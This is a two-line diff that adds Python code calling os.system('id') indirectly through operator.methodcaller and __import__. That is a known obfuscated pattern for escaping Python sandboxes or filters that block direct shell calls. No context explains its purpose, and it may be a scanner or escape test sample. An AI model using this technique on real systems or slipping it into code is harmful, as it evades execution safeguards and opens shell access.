@@ -1,0 +1,2 @@
+from operator import methodcaller
+methodcaller('system', 'id')(__import__('os'))
